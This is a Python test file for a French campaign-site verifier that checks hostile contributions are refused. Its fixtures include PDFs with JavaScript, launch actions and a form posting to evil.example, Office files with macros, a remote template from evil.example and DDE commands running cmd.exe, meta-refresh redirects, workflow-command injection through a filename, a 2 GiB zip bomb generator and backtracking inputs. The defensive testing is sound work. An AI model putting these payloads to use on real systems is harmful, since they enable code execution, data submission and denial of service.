"""Hostile contributions, round 2 (issue #26): each attack of the audit, made as the attacker made it,
goes through a real campaign folder and the real `ssp verifier` (or importer), and is refused with a
French message naming the file and line — never run, published, crashed on or left to stall the build."""

from __future__ import annotations

import io
import re
import subprocess
import zipfile
import zlib

import pytest
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from test_hostile import verify, with_material

from helpers import EDITION_2017, SSP, front_matter, pdf_of_objects, real_pdf, ssp

ALERT = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('pwn')")})


# --- 2. Bounded work ------------------------------------------------------------------------------

@pytest.mark.slow
def test_a_body_nested_124859_levels_deep_is_refused_at_once(project):
    project.edition()
    project.event("x", front_matter() + "<ul><li>" * 124_859)  # 999 KB: the sanitiser took 20 minutes on it
    code, errors = verify(project)
    assert code == 1 and "campaigns/2017/events/x.md:11: texte trop long : 100\u202f000 caractères au plus" in errors
    project.event("x", front_matter() + "<ul><li>" * 12_000)  # 96 KB: within the length, refused for its depth
    code, errors = verify(project)
    assert code == 1 and "campaigns/2017/events/x.md:11: imbrication trop profonde (plus de 16 niveaux" in errors


@pytest.mark.parametrize("body, line", [
    (">" * 90_000 + " citation", 11),  # markdown-it stops at its own depth and drops the rest in silence
    ("".join("  " * depth + "- point\n" for depth in range(300)), 18),  # the eighth level of lists
    ("<div>\n\n" * 10_000, 43),  # one level per block: counted across blocks (the 17th)
])
def test_deep_markdown_is_refused_rather_than_cut(project, body, line):
    project.edition()
    project.event("x", front_matter() + body)
    code, errors = verify(project)
    assert code == 1 and f"campaigns/2017/events/x.md:{line}: imbrication trop profonde" in errors


def test_html_blocks_of_unclosed_tags_are_read_in_one_pass(project):
    """« <a » repeated in an HTML block: counting its tags took 48 s a file (each « <a » was read up to the end of
    the text), so three such files stalled the verifier past its 120 s; a tag is now read up to the next « < »."""
    project.edition()
    for name in ("a", "b", "c"):
        project.event(name, front_matter(title=f"Atelier {name}") + "<div>\n" + "<a" * 49_990)
    project.event("d", front_matter(title="Atelier d") + "<div>\n" + "<![" * 33_000 + "\n\n<a href='https://x.fr'")
    code, errors = verify(project)  # no Traceback (checked by verify)
    assert code == 0, errors
    html = {event.slug: event.description_html for event in project.load()[0].events}
    assert "<a" not in html["a"] + html["b"] + html["c"]  # the sanitiser's, as before
    assert "&lt;a href='<a href=\"https://x.fr\" rel=\"noopener noreferrer\">https://x.fr</a>'" in html["d"]  # text, its address a link


def test_texts_full_of_bare_addresses_are_read_in_one_pass(project):
    """linkify-it reads the rest of a text again after each address it finds: 14,000 e-mail addresses in a text took 20 s,
    1,500 long ones 5 s; read word by word, a word of many addresses in pieces, each is now a link (README table)."""
    project.edition()
    texts = {"a": "a@b.fr " * 14_000, "b": "a@b.fr," * 14_000, "c": ("https://x" + "y" * 55 + ".fr ") * 1_400, "d": "http://" * 14_000}
    for name, text in texts.items():
        project.event(name, front_matter(title=f"Atelier {name}") + text)
    code, errors = verify(project)
    assert code == 0, errors
    html = {event.slug: event.description_html for event in project.load()[0].events}
    assert {slug: html[slug].count("<a ") for slug in "abc"} == {"a": 14_000, "b": 14_000, "c": 1_400}
    assert all(href.startswith("http://") for href in re.findall(r'href="([^"]*)"', html["d"]))  # « http://http » and so on


def test_an_ordinary_nested_description_is_kept(project):
    project.edition()
    project.event("x", front_matter() + "- un\n  - deux\n    - trois\n\n> citation\n\n<details><summary>Plus</summary>Texte</details>\n")
    assert verify(project)[0] == 0
    html = project.load()[0].events[0].description_html
    assert html.count("<ul>") == 3 and "<details><summary>Plus</summary>Texte</details>" in html


def test_a_body_longer_than_100000_characters_is_refused(project):
    project.edition()
    project.event("x", front_matter() + ("[" * 99 + "\n") * 1_100)  # « [ » costs markdown-it most: bounded by length
    code, errors = verify(project)
    assert code == 1 and "campaigns/2017/events/x.md:1010: texte trop long : 100\u202f000 caractères au plus" in errors


def test_a_markdown_field_of_a_yaml_file_is_bounded_too(project):
    project.edition(text=EDITION_2017 + "summary: \"" + "<div>" * 5_000 + "\"\n")
    code, errors = verify(project)
    assert code == 1 and "campaigns/2017/edition.yml:6: summary : imbrication trop profonde" in errors


def test_a_csv_of_one_action_then_100000_empty_rows_imports_in_one_pass(project):
    project.edition()
    header = "Titre;Type;Début;Organisateur;Ville;Région\r\n"
    action = "Portes ouvertes;portes-ouvertes;24/11/2017;CH;Dechy;Hauts-de-France\r\n"
    (project.root / "actions.csv").write_bytes((header + action + ";;;;;\r\n" * 100_000).encode("cp1252"))
    command = [str(SSP), "--projet", str(project.root), "importer", str(project.root / "actions.csv"), "--edition", "2017"]
    # a guard against a hang, thirty times what the import takes (it took 85 s when it was quadratic)
    result = subprocess.run(command, capture_output=True, text=True, timeout=30)
    assert result.returncode == 0, result.stderr
    assert [event.meta.title for event in project.load()[0].events] == ["Portes ouvertes"]


def test_a_theme_of_100000_characters_without_a_space_is_refused_not_crashed_on(project):
    project.edition(text=EDITION_2017.replace('theme: "Usagers, soignants : partenaires pour la sécurité des patients"',
                                              "theme: " + "x" * 100_000))
    code, errors = verify(project)
    assert code == 1 and "campaigns/2017/edition.yml:3: theme : thème trop long (100000 caractères) : 250 au plus" in errors


def test_the_share_picture_cuts_a_word_wider_than_itself():
    from datetime import date

    from PIL import Image

    from ssp.exports.shareimage import share_image, wrapped
    assert len(wrapped("x" * 250, 700, 34, 1000)) > 1
    picture = Image.open(io.BytesIO(share_image(2026, "x" * 100_000, date(2026, 11, 23), date(2026, 11, 27))))
    assert picture.size == (1200, 630)


def test_an_openagenda_number_of_5000_digits_is_refused_in_french(project):
    project.edition()
    export = project.write("export.json", '{"events": [\n{"uid": ' + "9" * 5_000 + "}\n]}")
    result = ssp(project, "importer", str(export), "--edition", "2017")
    assert result.returncode == 1 and "Erreur inattendue" not in result.stderr
    assert "export.json : ligne 2 : nombre de plus de 30 chiffres" in result.stderr


# --- 4. Active documents --------------------------------------------------------------------------

def _pdf_with(**entries) -> bytes:
    return real_pdf(catalog={NameObject(key): value for key, value in entries.items()})


@pytest.mark.parametrize("content, what", [
    (_pdf_with(**{"/OpenAction": ALERT}), "du JavaScript"),
    (real_pdf(page={NameObject("/AA"): DictionaryObject({NameObject("/O"): ALERT})}), "des actions automatiques"),
    (_pdf_with(**{"/OpenAction": DictionaryObject({NameObject("/S"): NameObject("/Launch"),
                                                    NameObject("/F"): TextStringObject("cmd.exe")})}),
     "une action qui lance un programme"),
    (_pdf_with(**{"/OpenAction": DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"),
                                                    NameObject("/F"): TextStringObject("https://evil.example/")})}),
     "un formulaire qui envoie des données"),
    (_pdf_with(**{"/Names": DictionaryObject({NameObject("/EmbeddedFiles"): DictionaryObject()})}), "un fichier joint"),
])
def test_a_pdf_that_acts_by_itself_is_refused(project, content, what):
    with_material(project, "supports/affiche.pdf", content)
    code, errors = verify(project)
    assert code == 1 and f"campaigns/2017/edition.yml:10: materials.1.file : ce PDF contient {what}" in errors


def test_a_pdf_name_written_with_hex_escapes_is_read_as_its_name(project):
    content = _pdf_with(**{"/OpenAction": ALERT}).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    assert b"/JavaScript" not in content  # a byte search would miss it
    with_material(project, "supports/affiche.pdf", content)
    code, errors = verify(project)
    assert code == 1 and "ce PDF contient du JavaScript" in errors


def test_a_plain_pdf_that_opens_at_its_first_page_is_accepted(project):
    pdf = real_pdf()
    from pypdf import PdfReader, PdfWriter
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer._root_object[NameObject("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
    writer.add_uri(0, "https://sante.gouv.fr/", [0, 0, 100, 100])  # a link the reader chooses to follow
    out = io.BytesIO()
    writer.write(out)
    with_material(project, "supports/affiche.pdf", out.getvalue())
    assert verify(project)[0] == 0


class ZerosDeflated:
    """Deflates megabytes of zeros without compressing each again: one megabyte compressed once, then its bytes again
    for each (a full flush ends each one on a byte and forgets what came before: they follow each other as they are),
    and the last block. 2 GiB in 0.6 s instead of 6, zipfile's checksum included (checked: it inflates back whole)."""

    def __init__(self) -> None:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        self.megabyte = compressor.compress(b"\0" * (1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)

    def compress(self, data: bytes) -> bytes:
        assert data == b"\0" * (1 << 20)
        return self.megabyte

    def flush(self) -> bytes:
        return zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def zipped(members: dict[str, bytes | str], mimetype: str | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if mimetype:
            archive.writestr(zipfile.ZipInfo("mimetype"), mimetype)
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


ODT = "application/vnd.oasis.opendocument.text"
ODT_BASE = {"META-INF/manifest.xml": '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                                     '<manifest:file-entry manifest:full-path="/" manifest:media-type="' + ODT + '"/>'
                                     "</manifest:manifest>",
            "content.xml": "<office:document-content><office:body><office:text><text:p>Affiche</text:p></office:text>"
                           "</office:body></office:document-content>"}
DOCX_BASE = {"[Content_Types].xml": '<Types><Default Extension="xml" ContentType="application/xml"/></Types>',
             "word/document.xml": "<w:document><w:body><w:p><w:r><w:t>Affiche</w:t></w:r></w:p></w:body></w:document>",
             "word/_rels/document.xml.rels": '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org'
                                             '/officeDocument/2006/relationships/hyperlink" Target="https://sante.gouv.fr/" '
                                             'TargetMode="External"/></Relationships>'}
XLSX_BASE = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>",
             "xl/worksheets/sheet1.xml": "<worksheet><sheetData><row><c><f>SUM(A2:A3)</f></c></row></sheetData></worksheet>"}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


@pytest.mark.parametrize("name, content", [
    ("affiche.odt", zipped({**ODT_BASE, "Scripts/python/pwn.py": "import os"}, ODT)),
    ("affiche.odt", zipped({**ODT_BASE, "Scripts/beanshell/pwn.bsh": "x"}, ODT)),
    ("affiche.odt", zipped({**ODT_BASE, "Scripts/javascript/pwn.js": "x"}, ODT)),
    ("affiche.odt", zipped({**ODT_BASE, "Basic/Standard/Module1.xml": "<script:module/>"}, ODT)),
    ("affiche.odt", zipped({**ODT_BASE, "content.xml": '<office:document-content><office:scripts><office:event-listeners>'
                                                      '<script:event-listener script:event-name="dom:load" xlink:href='
                                                      '"vnd.sun.star.script:Standard.Module1.Main"/></office:event-listeners>'
                                                      "</office:scripts></office:document-content>"}, ODT)),
    ("affiche.docx", zipped({**DOCX_BASE, "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="rId1" Type="'
                             'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                             'Target="https://evil.example/modele.dotm" TargetMode="External"/></Relationships>'})),
    ("affiche.docx", zipped({**DOCX_BASE, "word/images/photo.xml": OLE})),  # a VBA project under another name
    ("affiche.docx", zipped({**DOCX_BASE, "word/activeX/activeX1.xml": "<ax:ocx/>"})),
    ("affiche.docx", zipped({**DOCX_BASE, "word/embeddings/oleObject1.bin": OLE})),
    ("affiche.docx", zipped({**DOCX_BASE, "word/document.xml": '<w:document><w:body><w:p><w:r><w:instrText>DDEAUTO c:\\\\windows'
                                                              '\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
                                                              "</w:body></w:document>"})),
    ("liste.xlsx", zipped({**XLSX_BASE, "xl/externalLinks/externalLink1.xml": "<externalLink/>"})),
    ("liste.xlsx", zipped({**XLSX_BASE, "xl/worksheets/sheet1.xml": "<worksheet><sheetData><row><c><f>cmd|'/C calc'!A0</f>"
                                                                     "</c></row></sheetData></worksheet>"})),
])
def test_office_files_that_run_or_reach_elsewhere_are_refused(project, name, content):
    with_material(project, f"supports/{name}", content)
    code, errors = verify(project)
    assert code == 1 and "campaigns/2017/edition.yml:10: materials.1.file : ce document contient " in errors, errors


@pytest.mark.parametrize("name, content", [("affiche.odt", zipped(ODT_BASE, ODT)), ("kit.docx", zipped(DOCX_BASE)),
                                           ("liste.xlsx", zipped(XLSX_BASE))])
def test_plain_office_files_with_links_and_formulas_are_accepted(project, name, content):
    with_material(project, f"supports/{name}", content)
    assert verify(project) == (0, "")


def test_a_formula_of_a_megabyte_of_letters_is_read_in_one_pass(project):
    """The DDE check tried a name (« cmd| ») from each letter of a run: 4.6 s for 40 KB, about 50 minutes for 1 MB
    (far past the verifier's 120 s here). A crafted file holds a formula as long as it likes."""
    sheet = "<worksheet><sheetData><row><c><f>" + "hT" * 500_000 + "</f></c></row></sheetData></worksheet>"
    with_material(project, "supports/liste.xlsx", zipped({**XLSX_BASE, "xl/worksheets/sheet1.xml": sheet}))
    assert verify(project) == (0, "")


def test_a_theme_or_a_prize_built_to_backtrack_is_read_in_one_pass(project):
    """« « » then 20,000 spaces as a theme (its guillemets were read by a regular expression before its length
    was checked: 60 s for 5,000 spaces, an hour for these), « 3 x 1 », spaces and a letter as prizes (6 s for 2,000
    spaces): both refused at once, past the verifier's 120 s before."""
    project.edition(text=EDITION_2017.replace("theme: ", 'theme: "« ' + " " * 20_000 + 'x" # ', 1))
    project.write("campaigns/2017/appels/appel.md", "---\ntitle: Appel\norganizer: ARS\nopens: 2017-09-01\ncloses: 2017-09-30\n"
                                                    "prizes: 3 x 1" + " " * 20_000 + "!\n---\nTexte.\n")
    code, errors = verify(project)
    assert code == 1 and "campaigns/2017/edition.yml:3: theme : thème trop long" in errors, errors
    [prize] = [line for line in errors.splitlines() if "appel.md:6: prizes" in line]
    assert "caractères …]" in prize and len(prize) < 1_100  # the value quoted back is cut in its middle
    assert prize.endswith("! » : écrivez le nombre de prix et le montant de chacun, par exemple « 3 × 2000 »")


@pytest.mark.slow
def test_an_ods_whose_mimetype_inflates_to_2_gib_is_refused_without_inflating_it(project):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("mimetype")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            member._compressor = ZerosDeflated()  # zipfile counts the size and the checksum of what is written
            # (zipfile's own name for it: were it renamed, zlib would compress as before, slower, the same test)
            chunk = b"\0" * (1 << 20)
            for _ in range(2048):  # 2 GiB of zeros: about 2 MB once compressed
                member.write(chunk)
    with_material(project, "supports/liste.ods", out.getvalue())
    code, errors = verify(project)
    assert code == 1 and "Erreur inattendue" not in errors
    assert "fichier ODS abîmé ou trop gros une fois décompressé (la partie « mimetype » est bien plus grosse" in errors


def test_a_docx_member_above_the_cap_is_refused(project):
    big = zipped({**DOCX_BASE, "word/media/image1.png": b"\0" * 120_000_000})  # 120 MB inflated, 120 KB compressed
    with_material(project, "supports/kit.docx", big)
    code, errors = verify(project)
    assert code == 1 and "fichier Word abîmé ou trop gros une fois décompressé" in errors


# --- 5. Invisible and direction characters ---------------------------------------------------------

@pytest.mark.parametrize("body, code_point", [("Texte &#x202E;ecnerèféR", "202E"), ("Saut &#x0C; de page", "000C"),
                                              ("Tiret &shy;conditionnel", "00AD"), ("Espace &#8203;nulle", "200B")])
def test_character_references_are_checked_once_decoded(project, body, code_point):
    project.edition()
    project.event("x", front_matter() + "Ligne\n" + body + "\n")
    code, errors = verify(project)
    assert code == 1 and f"campaigns/2017/events/x.md:12: caractère invisible interdit (U+{code_point})" in errors


def test_a_direction_override_element_is_refused(project):
    project.edition()
    project.event("x", front_matter() + '<bdo dir="rtl">fdp.ecnerèfér</bdo>\n')
    code, errors = verify(project)
    assert code == 1 and "campaigns/2017/events/x.md:11: changement du sens d'écriture" in errors


@pytest.mark.parametrize("character", ["\u061c", "\u200e", "\u200f", "\u2028", "\u2029", "\ufeff", "\U000e0041", "\ufff9",
                                       "\ue000", "\u0378"])
def test_raw_invisible_characters_in_yaml_are_refused(project, character):
    project.edition()
    project.event("x", front_matter(title=f'"Portes {character}ouvertes"'))
    code, errors = verify(project)
    assert code == 1 and f"campaigns/2017/events/x.md:8: caractère invisible interdit (U+{ord(character):04X})" in errors


def test_an_emoji_sequence_with_a_joiner_is_text(project):
    project.edition()
    project.event("x", front_matter(title='"Portes ouvertes 👩\u200d⚕️"'))
    assert verify(project)[0] == 0


def test_an_imported_cell_with_a_direction_mark_is_refused(project):
    project.edition()
    sheet = project.write("actions.csv", "\ufeffTitre;Type;Début;Organisateur;Ville;Région\r\n"
                                         "Portes\u200f ouvertes;portes-ouvertes;24/11/2017;CH;Douai;Hauts-de-France\r\n"
                                         .encode("utf-8"))
    result = ssp(project, "importer", str(sheet), "--edition", "2017")
    assert result.returncode == 1 and "ligne 2, colonne « Titre » : caractère invisible interdit (U+200F)" in result.stderr


# --- 6. Words that become commands or markup elsewhere ----------------------------------------------

def test_a_clutter_name_cannot_write_a_workflow_command(project):
    project.edition()
    project.event("x")
    project.write("campaigns/2017/events/~$note\n::error title=pwn::Intrusion", b"x")
    result = ssp(project, "verifier")
    assert result.returncode == 0
    assert not any(line.startswith("::") for line in (result.stdout + result.stderr).splitlines())
    assert "Remarque : campaigns/2017/events/~$note\\u000a::error title=pwn::Intrusion" in result.stdout


def test_a_refused_value_is_shown_as_text_in_the_job_summary(project, tmp_path, monkeypatch):
    project.edition()
    project.event("x", front_matter(type="'[clic](https://evil.example/x) ![](https://evil.example/p.png) @equipe'"))
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
    result = ssp(project, "verifier", "--format", "github")
    summary = (tmp_path / "summary.md").read_text(encoding="utf-8")
    assert result.returncode == 1 and "[clic](https://evil.example/x)" in summary
    row = next(line for line in summary.splitlines() if "evil.example" in line)
    cells = [cell.strip() for cell in row.strip("|").split(" | ")]
    assert all(cell.startswith("`") and cell.endswith("`") for cell in cells if cell and not cell.isdigit()), row


@pytest.mark.parametrize("page, expected", [
    ('---\ntitle: Mentions\nauthor: "\\"><meta http-equiv=refresh content=0;url=https://evil.example/>"\n---\nTexte.\n',
     "docs/mentions-legales.md:3: author : champ refusé dans l'en-tête d'une page de docs/"),
    ("---\ntitle: Mentions\n---\nTexte.\n\n<meta http-equiv=refresh content=\"0;url=https://evil.example/\">\n",
     "docs/mentions-legales.md:6: balise <meta> refusée dans une page"),
    ("Texte.\n<SCRIPT>alert(1)</SCRIPT>\n", "docs/mentions-legales.md:2: balise <script> refusée dans une page"),
])
def test_docs_pages_cannot_redirect_readers(project, page, expected):
    project.edition()
    project.event("x")
    project.write("docs/mentions-legales.md", page)
    code, errors = verify(project)
    assert code == 1 and expected in errors, errors


@pytest.mark.parametrize("search, expected", [
    ("search: oui", "docs/organiser.md:3: search : « search » attend des champs"),
    ("search:\n  boost: 2", "docs/organiser.md:4: search.boost : champ refusé ; champs permis : exclude, keywords"),
    ("search:\n  exclude: oui", "docs/organiser.md:4: search.exclude : écrivez true ou false"),
    ("search:\n  keywords: [déclarer, inscrire]", "docs/organiser.md:4: search.keywords : écrivez des mots sur une ligne"),
    ("search:\n  keywords: " + "déclarer " * 40, "docs/organiser.md:4: search.keywords : 359 caractères ; 300 au plus"),
])
def test_a_docs_page_s_search_field_is_checked(project, search, expected):
    """A page of docs/ may be left out of the search, or name the words that lead to it (CONTRIBUER.md)."""
    project.edition()
    project.event("x")
    project.write("docs/organiser.md", f"---\ntitle: Organiser\n{search}\n---\nTexte.\n")
    code, errors = verify(project)
    assert code == 1 and expected in errors, errors
    project.write("docs/organiser.md", "---\ntitle: Organiser\nsearch:\n  exclude: true\n  keywords: déclarer une action\n---\nTexte.\n")
    assert verify(project)[0] == 0



def test_a_pdf_of_more_than_100000_objects_is_refused_before_it_is_read_whole(project):
    with_material(project, "supports/rapport.pdf", pdf_of_objects(100_000))
    code, errors = verify(project)
    assert code == 1 and "fichier PDF abîmé" not in errors and "PDF de plus de 100\u202f000 objets" in errors


def test_a_pdf_action_named_through_a_reference_is_read(project):
    from pypdf import PdfReader, PdfWriter
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(real_pdf())))
    launch = writer._add_object(NameObject("/Launch"))  # « /S 7 0 R », the name kept in an object of its own
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({NameObject("/S"): launch,
                                                                      NameObject("/F"): TextStringObject("cmd.exe")})
    out = io.BytesIO()
    writer.write(out)
    with_material(project, "supports/affiche.pdf", out.getvalue())
    code, errors = verify(project)
    assert code == 1 and "ce PDF contient une action qui lance un programme" in errors


@pytest.mark.parametrize("content", [
    b"%PDF-1.7\n" + b"\x00\xff" * 64,  # a PDF header, then nothing a PDF reader can find
    zipped({**DOCX_BASE}).replace(b"word/document.xml", b"word/document.xmX", 1),  # names that disagree
])
def test_damaged_documents_get_a_french_message(project, content):
    name = "affiche.pdf" if content.startswith(b"%PDF") else "kit.docx"
    with_material(project, f"supports/{name}", content)
    code, errors = verify(project)
    assert code == 1 and "Erreur inattendue" not in errors and "abîmé" in errors
